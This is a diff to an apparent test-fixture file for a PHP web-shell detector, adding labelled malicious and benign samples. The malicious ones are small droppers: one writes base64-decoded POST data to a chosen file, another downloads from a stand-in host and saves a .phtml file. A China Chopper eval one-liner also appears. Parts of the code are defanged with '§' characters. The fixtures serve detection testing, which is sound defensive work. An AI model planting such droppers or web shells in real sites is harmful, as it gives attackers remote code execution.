@@ -270,6 +270,25 @@ PHP_SAMPLES: tuple[Sample, ...] = (
         "photo.php",
         "GIF89a\x01\x00\x01\x00<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta/>\n",
     ),
+    Sample(
+        "php_small_dropper",
+        True,
+        "save.php",
+        "<?php\n$n = $_RE§QUEST['n'];\n$h = fo§pen($n, 'w');\nfwrite($h, base64_decode($_POST['d']));\nfclose($h);\n",
+    ),
+    Sample(
+        "php_small_dropper",
+        True,
+        "get.php",
+        "<?php\nfile_put_con§tents(__DIR__ . '/images/thumb.ph§tml', file_get_contents('http://example.invalid/s.txt'));\n",
+    ),
+    Sample(
+        "php_small_dropper",
+        False,
+        "visits.php",
+        "<?php\n$line = date('c') . ' ' . ($_GET['page'] ?? '') . \"\\n\";\n"
+        "file_put_contents(__DIR__ . '/visits.log', $line, FILE_APPEND);\n",
+    ),
     # --- China Chopper -------------------------------------------------------------------------
     Sample("china_chopper_php", True, "1.php", "<?php @ev§al($_PO§ST['chopper']);?>"),
     Sample("china_chopper_php", False, "greet.php", "<?php echo htmlspecialchars($_POST['chopper'] ?? ''); ?>\n"),
